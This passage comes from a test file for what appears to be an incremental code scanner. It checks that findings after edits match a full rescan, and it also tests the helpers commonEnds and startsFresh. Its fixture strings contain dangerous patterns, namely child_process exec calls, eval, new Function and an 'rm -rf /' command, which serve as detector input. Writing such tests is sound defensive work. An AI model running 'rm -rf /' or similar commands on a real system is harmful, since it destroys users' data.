    const v1 = '// head\n@dec(eval)\nclass A { @m() x = 1; }\nenum E { A = 1 }\nconst y = <any>window;\n// tail\n';
    assertSameAsFull('a.ts', [v1, v1.replace('enum E { A = 1 }', ''), v1.replace('@dec(eval)', '@dec(JSON)'), '// only\n// comments\n', v1]);
  });

  it('TypeScript recovery does not hide a brace the edit left open', () => {
    const v1 = 'namespace Sandbox {\n  // note\n}\nexport const make = (src: string) => new Function(src);\n';
    assertSameAsFull('a.ts', [v1, v1.replace('}\n', ''), v1]);
  });

  it('files with value namespaces are scanned whole: an edit inside the namespace changes the finding where N.k is read', () => {
    const v1 = 'namespace Util {\n  export const proc = require("child_process");\n}\nfunction a() {}\nUtil.proc.exec("id");\n';
    const scanner = assertSameAsFull('ns.ts', [v1, v1.replace('require("child_process")', 'require("x")'), v1, v1.replace('function a() {}', 'function a() { return 1; }')]);
    assert.equal(scanner.lastUpdate, 'full');
    const plain = 'const Util = 1;\nfunction a() {}\n';
    assertSameAsFull('ns.ts', [plain, plain + 'namespace Util2 { export const p = require("child_process"); }\nUtil2.p.exec("x");\n']);
  });

  it('"use strict" scripts and CommonJS files', () => {
    const v1 = '"use strict";\nconst cp = require("child_process");\ncp.exec("ls");\n';
    assertSameAsFull('a.cjs', [v1, v1.replace('"ls"', '"rm -rf /"'), v1.replace('"use strict";\n', '')]);
  });
});

describe('commonEnds', () => {
  it('finds the changed middle, never overlapping prefix and suffix', () => {
    const next = random(7);
    for (let i = 0; i < 500; i++) {
      const a = 'x'.repeat(Math.floor(next() * 5000)) + 'ab'.repeat(Math.floor(next() * 3));
      const cut = Math.floor(next() * a.length);
      const b = a.slice(0, cut) + 'y'.repeat(Math.floor(next() * 3)) + a.slice(cut + Math.floor(next() * 3));
      const { prefix, suffix } = commonEnds(a, b);
      assert.ok(prefix + suffix <= Math.min(a.length, b.length));
      assert.equal(a.slice(0, prefix), b.slice(0, prefix));
      assert.equal(a.slice(a.length - suffix), b.slice(b.length - suffix));
      assert.ok(prefix === Math.min(a.length, b.length) - suffix || a[prefix] !== b[prefix] || prefix + suffix === Math.min(a.length, b.length));
    }
  });
});

describe('startsFresh (can a statement continue into the next one?)', () => {
  it('names, numbers, strings and blocks start fresh; brackets, templates, operators and binary words do not', () => {
    for (const text of ['const x', 'foo()', '42', '"s"', "'s'", '{ }', '!x', '@dec class A {}', ';', 'let y', '']) assert.equal(startsFresh(text, 0), true, text);
    for (const text of ['(x)', '[1]', '`t`', '+x', '-x', '/re/', '.5', 'in y', 'instanceof Y', 'as T', 'satisfies T', '<div/>', '?.x']) assert.equal(startsFresh(text, 0), false, text);
  });
});
